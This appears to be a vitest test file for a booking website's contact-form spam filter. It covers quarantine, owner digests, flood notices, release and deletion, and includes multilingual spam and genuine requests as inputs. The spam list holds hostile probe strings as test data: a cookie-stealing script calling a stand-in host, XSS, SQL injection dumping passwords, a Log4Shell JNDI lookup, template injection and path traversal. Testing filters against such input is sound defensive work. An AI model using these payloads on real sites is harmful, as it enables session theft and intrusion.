import { afterEach, beforeEach, expect, it, vi } from "vitest";
import { createLimits, submitWithin } from "#src/site/limits.server.ts";
import { perform } from "#src/requests/perform.server.ts";
import { discardOld, reportQuarantine, suspected } from "#src/requests/quarantine.server.ts";
import type { TypedFields } from "#src/booking/parse.ts";
import type { RequestKind } from "#src/booking/vocabulary.ts";
import { bookingFields } from "../helpers/forms.ts";
import { testSite } from "../helpers/test-site.ts";
import { overEachDialect } from "./dialects.ts";
import { expectHistories } from "./expect-histories.ts";

/** The fields of a form, and the address that it comes from. */
interface Post {
  kind: RequestKind;
  client: string;
  fields: TypedFields;
}

/** Texts in the manner of those that contact forms receive: offers without links, offers by links, then markup and probes for holes. */
const spamTexts: readonly string[] = [
  "Hi there, I noticed several errors that keep you from ranking. We can bring you to the first page of Google within 30 days.",
  "Hello, I came across your site and it is missing out on traffic. I'm an SEO expert. Can I send you a free audit and our packages?",
  "Dear business owner, our web design company has built over 90 sites. Would you like a free quote for your website?",
  "Hi, do you accept guest posts on your blog? We pay $80 for each article with a dofollow link.",
  "I can send your message to 9 million contact forms for $40. Reply if you want details on contact form advertising.",
  "Buy the email list of your industry today with 50% discount. Lead generation services for your company.",
  "Buongiorno, ho notato che non appare in prima pagina su Google. Offriamo posizionamento SEO a partire da 90 euro al mese.",
  "Salve, siamo una web agency e realizziamo siti web ed e-commerce. Ho analizzato il vostro sito e ci sono errori.",
  "Gentile titolare, aumenta le vendite con la nostra campagna di digital marketing: contatti qualificati garantiti.",
  "Ciao! Con il nostro servizio aumenta i follower reali e italiani, 900 follower a soli 40 euro.",
  "We offer business loans and personal loans at 3% interest rate, fast approval, no credit check. Apply now.",
  "Offriamo prestiti tra privati da 5.000 a 50.000 euro al tasso del 3%. Prestito veloce anche senza busta paga.",
  "You have been awarded the sum of 4 million USD by the compensation fund. Contact our claims agent with your bank details.",
  "My late client left an inheritance of $7.5 million. I need you as next of kin. Strictly confidential.",
  "We are a leading manufacturer of glassware in China, factory price, OEM welcome, fast shipping.",
  "Dear Sir/Madam, we supply replica watches and designer handbags at wholesale prices.",
  "Start trading Bitcoin with our AI platform. Guaranteed profits, make money online from home.",
  "Guadagna online da casa con le criptovalute: bastano 90 euro per iniziare. Registrati ora.",
  "Hot lonely women in your area are waiting to chat and meet tonight.",
  "Buy cheap Viagra and Cialis online without prescription.",
  "Play at the best online casino with a welcome bonus of 90 euros and 40 free spins. No deposit needed.",
  "We can lower your credit card processing fees by 30%. Reply STOP to opt out.",
  "Your domain bar-92.example expires soon. Renew your search engine registration today to keep your website listed on Google.",
  "Предлагаем продвижение и раскрутку сайтов в топ Яндекса и Google. Недорого, пишите в Telegram.",
  "Do you want more reviews? Buy 5 star Google reviews for your business, safe and permanent.",
  "I represent an investment firm with funding for projects from 9 million. We look for a partnership opportunity. Kindly respond.",
  "We create explainer videos. I came across your website and think a video would help you convert visitors, with our services.",
  "Best slots site of 2026: https://win-cash7.top/7 - 100% bonus",
  "Look at this video, is this you?? bit.ly/7x7 click here",
  "My new nude photos are here: https://best-video9.ru/anna9",
  "Read: https://a.example/a https://b.example/b https://c.example/c https://d.example/d https://e.example/e",
  "Join our channel t.me/megaplay7 for crypto signals with 90% profit",
  "Заработок в интернете https://top-cash3.ru/ref3 https://www.second-cash3.ru https://third-cash3.ru t.me/megaplay",
  "Increase your website's domain authority with quality backlinks: www.top-seo4.com",
  "We sell aged accounts, followers, reviews: https://top-fast5.net Telegram: @megaplay, discount, click here",
  '<a href="https://top-meds5.com/">cheap watches</a>',
  "[url=https://top-meds5.com/]loan[/url]",
  "<script>fetch('https://top-meds5.com/'+document.cookie)</script>",
  '"><img src=x onerror=alert(7)>',
  "' OR 7=7 -- ",
  "7' UNION SELECT username, password FROM users --",
  "${jndi:ldap://top-meds5.com/7}",
  "{{7*7}} #{7*7} <%= 7*7 %>",
  "../../../../etc/passwd",
  "<h1>Hi</h1> <iframe src=//top-meds5.com></iframe>",
];

/** Text without an offer that one robot sends under many addresses, to try the form out. */
const copied =
  "Hello, I would like to ask about the price of your service for a private event, please send me the catalogue.";

/** Requests in which a careless filter would see spam: links, capitals, business words, other scripts, emoji, code-like signs. */
const genuine: readonly string[] = [
  "La villa è questa: https://www.villaaldobrandini.example/matrimoni e https://www.instagram.com/villa.aldobrandini/",
  "Il posto: https://maps.app.goo.gl/AbCdEf123 (ingresso dal cancello verde).",
  "CIAO! VORREMMO UN PREVENTIVO PER IL 18 GIUGNO, SIAMO IN 80, GRAZIE MILLE!!!",
  "Serata a tema CASINO ROYALE: tavoli da gioco finti, smoking, Vesper Martini.",
  "Siamo un’agenzia di digital marketing di Roma e festeggiamo i dieci anni: open bar per 60 colleghi.",
  "Festa di lancio della nostra startup (pagamenti in bitcoin, ma paghiamo voi in euro, promesso 😄).",
  "Convegno “SEO & Content 2027” a Villa Grazioli: aperitivo di networking per 120 persone, fattura elettronica.",
  "Ho visitato il vostro sito, bellissimo! Vorrei sapere se venite anche a Nemi e quanto costa la trasferta.",
  "Ho trovato il vostro sito su Google. Avete un’offerta per 100 invitati?",
  "Potete mandarmi un preventivo gratuito, senza impegno? Festa di laurea di mia figlia.",
  "Mio marito è russo: i suoceri (Иван и Людмила Петровы) bevono volentieri vodka, si può? 💍🥂🎉",
  "Per le allergie: noci; 3 celiaci. Il bancone sta su ghiaia (pendenza < 5%), presa 16A <3",
  "Evento aziendale Banca del Tuscolo: lancio dei nuovi prestiti casa ai clienti, 90 invitati.",
  "Torneo di poker di beneficenza in piazza, autorizzato dal Comune: serve il bar dalle 17.",
  "Inaugurazione palestra: niente zuccheri. Abbiamo 12.000 follower, vi tagghiamo!",
  "Sono una wedding planner (www.nozzefelici.example): ho tre date, 15/5, 22/5 e 5/6.",
  "Our mood board: https://pinterest.com/emma/wedding-bar/ and the house: https://www.airbnb.com/rooms/123456?src=share",
  "We run a digital marketing agency in London and bring 45 people to Rome for our offsite.",
  "I found your website through Google and it looks great! Could you send me a free quote for a garden party?",
  "Launch party of our crypto wallet startup at Cinecittà: 150 guests, invoice to Ireland.",
  "Could you offer a special discount for a weekday? We are a small charity with about 800 euros.",
  "Please reply to my partner as well: tom.baker@post.example. WhatsApp +44 7700 900123 works best.",
  "Corporate dinner of an investment firm, 30 partners, whisky tasting. Return transfer from Rome?",
  "Pharmacy opening in Grottaferrata: prosecco and juices for about 60 neighbours.",
  "My name is Ana-María O'Connor-Müller. Yes, all of it. 50 adults, 20 kids, 2.5 cocktails per hour.",
  "Let me tell you a little about us: we met in Frascati, over a glass of young wine. ".repeat(25),
];
const guests = [
  "Giulia Marchetti",
  "GIOVANNI DE SANCTIS",
  "Иван Петров",
  "Şebnem Yılmaz",
  "Νίκος Παπαδόπουλος",
  "محمد العلي",
  "McDonald Ltd, J. Smith",
  "Seán O’Connor",
  "王小明",
  "דינה כהן",
  "Nguyễn Thị Ánh",
];
const places = [
  "Nemi",
  "https://maps.app.goo.gl/XyZ12345",
  "CASTEL GANDOLFO (RM), via del lago 3",
  "www.ilcasale.example",
];

overEachDialect("spam", (bench) => {
  let send: (post: Post) => Promise<unknown>;
  const start = new Date("2027-03-01T10:00:00Z");
  const site = () => testSite({ db: bench.db, now: () => new Date() });
  const release = (id = "") => perform(site(), "owner", "release", id);

  beforeEach(() => {
    vi.useFakeTimers({ now: start, toFake: ["Date", "setTimeout", "clearTimeout"] });
    const limits = createLimits({ httpRequestsPerMinute: 1, requestsPerMinute: 20, requestsPerHour: 20 });
    send = ({ client, kind, fields }) => submitWithin(limits, site(), client, { kind, fields });
  });
  afterEach(() => {
    vi.useRealTimers();
  });

  const mails = async (): Promise<string[]> =>
    (await bench.db.selectFrom("outbox").select("kind").orderBy("created_at").execute()).map(({ kind }) => kind);
  const received = () => bench.db.selectFrom("request").selectAll().where("status", "=", "received").execute();

  // The rules do not depend on the database.
  it.runIf(bench.kind === "sqlite")(
    "of every kind causes five mails at most, the owner's digest included",
    async () => {
      const copies = Array.from({ length: 20 }, (_, index) => `${copied} Ref ${index}`);
      for (const [index, text] of [...spamTexts, ...copies].entries()) {
        expect(await send(aPost(text, index))).toMatchObject({ ok: true });
        vi.setSystemTime(Date.now() + 3_600);
      }
      await reportQuarantine(site());
      expect((await received()).map(({ content }) => content).filter((content) => !content.includes(copied))).toEqual(
        [],
      );
      const sent = await mails();
      expect(sent.length).toBeLessThanOrEqual(5);
      expect(sent).toContain("owner-quarantine");
    },
  );

  it.runIf(bench.kind === "sqlite")("is not found in genuine requests, also while robots post", async () => {
    for (const [index, details] of genuine.entries()) {
      const [name, location] = [guests[index % guests.length], places[index % places.length]];
      const fields = { ...aPost(details).fields, email: `guest.${index}@posta.example`, name, location };
      expect(await send({ kind: "booking", client: `203.0.113.${index}`, fields })).toMatchObject({ ok: true });
      await send(aPost(spamTexts[index % spamTexts.length] ?? "", index));
      vi.setSystemTime(Date.now() + 4 * 3_600_000);
    }
    const rows = await bench.db.selectFrom("request").selectAll().where("email_key", "like", "guest.%").execute();
    expect(rows).toHaveLength(genuine.length);
    const held = rows.filter(({ status }) => status !== "received");
    expect(held.map(({ content, suspicion }) => `${content} ${suspicion}`)).toEqual([]);
  });

  const aPost = (details: string, index = 0): Post => ({
    kind: "booking",
    client: `198.51.100.${index}`,
    fields: bookingFields({ details, email: `robot.${index}@posta.example` }),
  });
  const spam = '<a href="https://pills.example">pills</a>';

  it("is mailed to the owner once a day, from eight o'clock in Rome on, if something new was quarantined", async () => {
    const report = (instant: string): Promise<boolean> => {
      vi.setSystemTime(new Date(instant));
      return reportQuarantine(site());
    };
    expect(await report("2027-03-01T10:00:00Z")).toBe(false);
    await send(aPost(spam, 1));
    expect(await report("2027-03-02T06:59:00Z")).toBe(false);
    expect(await Promise.all([report("2027-03-02T07:00:00Z"), report("2027-03-02T07:00:00Z")])).toContain(true);
    await send(aPost(spam, 2));
    expect(await report("2027-03-02T15:00:00Z")).toBe(false);
    expect(await report("2027-03-03T07:00:00Z")).toBe(true);
    expect(await report("2027-03-04T07:00:00Z")).toBe(false);
    expect(await mails()).toEqual(["owner-quarantine", "owner-quarantine"]);
  });

  it("is not what only the rate speaks against: the owner is mailed about it at once, and once an hour (D17)", async () => {
    const minutes = (count: number): Promise<boolean> => {
      vi.setSystemTime(start.getTime() + count * 60_000);
      return reportQuarantine(site());
    };
    // The mail of the day has left.
    await send(aPost(spam, 100));
    expect(await minutes(0)).toBe(true);
    const client = "192.0.2.200";
    // An office of ten people is not a flood.
    for (let index = 0; index < 10; index++) await send({ ...aPost(`Festa in giardino ${index}`, index), client });
    expect(await minutes(0)).toBe(false);
    await send({ ...aPost("Festa in giardino 10", 10), client });
    expect(await Promise.all([minutes(1), minutes(1)])).toContain(true);
    await send({ ...aPost("Festa in giardino 11", 11), client });
    expect(await minutes(60)).toBe(false);
    expect(await minutes(62)).toBe(true);
    expect(await minutes(200)).toBe(false);
    expect((await mails()).filter((kind) => kind === "owner-flood")).toHaveLength(2);
    expect((await mails()).filter((kind) => kind === "owner-notice")).toHaveLength(10);
    expect((await mails()).filter((kind) => kind === "visitor-acknowledgement")).toHaveLength(12);
    expect((await suspected(bench.db, "beyond-rate")).count).toBe(2);
    expect(await received()).toHaveLength(12);
  });

  it("is a text under a third address within a day, though greeting, numbers and links differ", async () => {
    const text = "Vorremmo un aperitivo in giardino per ottanta persone, con due baristi e la musica dal vivo.";
    await send(aPost(text, 1));
    await send(aPost(`Ciao! ${text} 4711`, 2));
    // One address may send its text again.
    await send(aPost(`${text} Di nuovo.`, 2));
    expect(await received()).toHaveLength(3);
    await send(aPost(`Gentile Anna, ${text} https://example.org`, 3));
    expect((await suspected(bench.db, "quarantined")).requests).toMatchObject([
      { suspicion: expect.arrayContaining(["repeated-text"]) },
    ]);
    vi.setSystemTime(start.getTime() + 25 * 3_600_000);
    await send(aPost(text, 4));
    expect(await received()).toHaveLength(4);
  });

  it("is listed with its reasons, and what is released is mailed once, whoever releases it at the same time", async () => {
    await send(aPost(spam, 1));
    await send(aPost("Festa in giardino, 60 persone.", 2));
    const { requests, count } = await suspected(bench.db, "quarantined");
    expect(count).toBe(1);
    expect(requests).toMatchObject([{ suspicion: ["markup", "links"] }]);
    const id = requests[0]?.id ?? "";
    const before = (await mails()).length;
    const released = await Promise.all([release(id), release(id), release(id)]);
    expect(released.filter(({ ok }) => ok)).toHaveLength(1);
    expect((await mails()).slice(before).toSorted()).toEqual(["owner-notice", "visitor-acknowledgement"]);
    expect(await received()).toHaveLength(2);
    expect(await suspected(bench.db, "quarantined")).toEqual({ requests: [], count: 0 });
    await expectHistories(bench.db);
  });

  it("is deleted after thirty days, and nothing else is", async () => {
    await send(aPost(spam, 1));
    await send(aPost("Festa in giardino, 60 persone.", 2));
    await send(aPost(spam, 3));
    const [newest] = (await suspected(bench.db, "quarantined")).requests;
    await release(newest?.id);
    await reportQuarantine(site());
    const days = (count: number): Date => new Date(start.getTime() + count * 86_400_000);
    expect(await discardOld(bench.db, days(30))).toBe(0);
    expect(await discardOld(bench.db, new Date(days(30).getTime() + 60_000))).toBe(1);
    expect(await mails()).not.toContain("owner-quarantine");
    expect(await received()).toHaveLength(2);
  });
});
